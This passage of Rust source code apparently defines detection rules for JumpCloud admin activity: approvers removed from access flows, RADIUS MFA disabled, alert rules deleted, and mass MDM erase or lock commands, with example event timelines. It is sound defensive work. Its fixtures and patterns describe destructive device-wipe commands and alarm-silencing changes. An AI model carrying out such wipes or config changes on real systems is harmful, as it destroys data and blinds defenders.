        .set("service", json!("access_management"))
        .on("approval_flow", "Prod access")
        .change("approvers", Some(json!(["security"])), json!([])),
    );
    let mut old_name = Timeline::new("aw-2x", DAY1);
    old_name.push(
        admin_change("access_management_workflow_delete", "it.admin@corp.example")
            .set("service", json!("access_management"))
            .on("workflow", "Prod access"),
    );
    let mut request = Timeline::new("aw-3x", DAY1);
    request.push(
        Ev::new("access_management_access_request", "access_management")
            .by_user("jane.doe")
            .from(&PARIS)
            .ok(true),
    );
    Examples {
        config: vec![],
        matching: afar_all(vec![
            example("approvers removed from a flow", &flow),
            example("a workflow deleted (older name)", &old_name),
        ]),
        near_miss: vec![
            first_day(
                "an admin never seen before (a fresh deployment)",
                "aw-fd",
                admin_change("access_management_approval_flow_create", "x")
                    .on("approval_flow", "Finance access"),
            ),
            routine(
                "the usual admin from the office",
                "aw-r",
                admin_change(
                    "access_management_approval_flow_create",
                    "it.admin@corp.example",
                )
                .on("approval_flow", "Finance access"),
            ),
            example("an access request", &request),
        ],
    }
}

fn radius_server_changed() -> Rule {
    duet(
        "jc.config.radius_server_changed",
        "RADIUS server {target} changed by {actor} ({event_type})",
        "A RADIUS server definition was created, changed or deleted (radiusserver_*): its shared secret, its MFA requirement or the networks allowed to use it. Asked about when an established admin (or one whose account was created recently) acts from a network where they were not seen at least learning_period before; the same change from the admin's usual office is routine, and an admin nobody has seen yet (a fresh deployment) is left alone.",
        Severity::Low,
        "T1556",
        "Ask the admin to confirm the RADIUS change.",
        observe_radius_server,
        radius_server_examples,
    )
}

fn observe_radius_server(ev: &Event, _: &Knobs) -> Option<Hit> {
    gated(ev, type_in(ev, &[], &["radiusserver_", "radius_server_"]))
}

fn radius_server_examples() -> Examples {
    let mut changed = Timeline::new("rs-1", DAY1);
    changed.push(
        admin_change("radiusserver_update", "it.admin@corp.example")
            .on("radius_server", "Office Wi-Fi")
            .change("mfa", Some(json!("ENABLED")), json!("DISABLED")),
    );
    let mut auth = Timeline::new("rs-2", DAY1);
    auth.push(radius("jane.doe"));
    Examples {
        config: vec![],
        matching: afar_all(vec![example("a RADIUS server changed", &changed)]),
        near_miss: vec![
            first_day(
                "an admin never seen before (a fresh deployment)",
                "rs-fd",
                admin_change("radiusserver_create", "x").on("radius_server", "Office Wi-Fi"),
            ),
            routine(
                "the usual admin from the office",
                "rs-r",
                admin_change("radiusserver_update", "it.admin@corp.example")
                    .on("radius_server", "Office Wi-Fi")
                    .change("name", Some(json!("Wifi")), json!("Office Wi-Fi")),
            ),
            example("a RADIUS authentication", &auth),
        ],
    }
}

fn alerting_removed() -> Rule {
    Rule {
        id: "jc.config.alerting_removed",
        title: "JumpCloud alert rule or notification channel deleted by {actor}",
        description: "A JumpCloud alert rule or notification channel was deleted (rule_deleted, notification_channel_deleted, notification_delete): an intruder silencing the alarms before acting.",
        area: Area::RiskyConfig,
        severity: Severity::Medium,
        technique: "T1562",
        route: Route::Alert,
        first_action: "Confirm with the admin; if unexpected, restore the alerting and look at what happened after it was removed.",
        needs_config: None,
        knobs: vec![suppress("24h")],
        details: &[],
        logic: Logic::Single {
            observe: observe_alerting_removed,
        },
        examples: alerting_examples,
    }
}

fn observe_alerting_removed(ev: &Event, _: &Knobs) -> Option<Hit> {
    type_in(
        ev,
        &[
            "rule_deleted",
            "notification_channel_deleted",
            "notification_delete",
        ],
        &[],
    )
    .then(|| change_hit(ev))
}

fn alerting_examples() -> Examples {
    let mut deleted = Timeline::new("ar-1", DAY1);
    deleted.push(
        admin_change("rule_deleted", "it.admin@corp.example")
            .set("service", json!("alerts"))
            .on("rule", "Admin login from new country"),
    );
    let mut created = Timeline::new("ar-2", DAY1);
    created.push(
        admin_change("rule_created", "it.admin@corp.example")
            .set("service", json!("alerts"))
            .on("rule", "Admin login from new country"),
    );
    Examples {
        config: vec![],
        matching: vec![example("an alert rule deleted", &deleted)],
        near_miss: vec![example("an alert rule created", &created)],
    }
}

// --- mass device wipe --------------------------------------------------------------------

fn destructive_command(ev: &Event) -> bool {
    [
        "request_type",
        "command.request_type",
        "command_type",
        "command.type",
        "command.RequestType",
    ]
    .iter()
    .filter_map(|p| ev.field_str(p))
    .any(|t| {
        let t = t.to_lowercase();
        t.contains("erase") || t.contains("wipe") || (t.contains("lock") && !t.contains("unlock"))
    })
}

fn device_of(ev: &Event) -> String {
    [
        "mdm_device_id",
        "device_object_id",
        "windows_device_uuid",
        "system.id",
        "resource.id",
    ]
    .iter()
    .find_map(|p| ev.field_str(p))
    .unwrap_or_else(|| ev.id.clone())
}

fn mass_device_wipe() -> Rule {
    Rule {
        id: "jc.config.mass_device_wipe",
        title: "Erase or lock commands sent to {distinct_count} devices within {window}",
        description: "MDM erase, wipe or lock commands sent to several devices in a short time (mdm_command_result and device commands whose request type is an erase or a lock): destruction of the fleet, or holding it to ransom.",
        area: Area::RiskyConfig,
        severity: Severity::Critical,
        technique: "T1485",
        route: Route::Alert,
        first_action: "Stop pending MDM commands, suspend the admin accounts that sent them and reach the device owners.",
        needs_config: None,
        knobs: vec![
            suppress("24h"),
            threshold(3, "Distinct devices erased or locked."),
            window("1h"),
        ],
        details: &["distinct_count", "distinct", "threshold"],
        logic: Logic::Threshold {
            observe: observe_wipe,
            distinct: true,
        },
        examples: wipe_examples,
    }
}

fn observe_wipe(ev: &Event, _: &Knobs) -> Option<Hit> {
    if !type_in(
        ev,
        &["mdm_command_result", "device_command", "mdm_command"],
        &[],
    ) || !destructive_command(ev)
    {
        return None;
    }
    Some(Hit::new("organisation").value(device_of(ev)))
}

fn mdm(device: usize, request: &str) -> Ev {
    Ev::new("mdm_command_result", "mdm")
        .set("mdm_type", json!("apple"))
        .set(
            "mdm_device_id",
            json!(object_id(&format!("device-{device}"))),
        )
        .set("request_type", json!(request))
        .set("status", json!("Acknowledged"))
        .ok(true)
}

fn wipe_examples() -> Examples {
    let mut wipe = Timeline::new("mw-1", DAY1);
    wipe.repeat(5, "2m", |i| mdm(i, "EraseDevice"));
    let mut lost = Timeline::new("mw-2", DAY1);
    lost.push(mdm(1, "DeviceLock"));
    let mut inventory = Timeline::new("mw-3", DAY1);
    inventory.repeat(5, "2m", |i| mdm(i, "DeviceInformation"));
    Examples {
        config: vec![],
        matching: vec![example("five devices erased", &wipe)],
        near_miss: vec![
            example("one lost laptop locked", &lost),
            example("inventory queries", &inventory),
        ],
    }
}
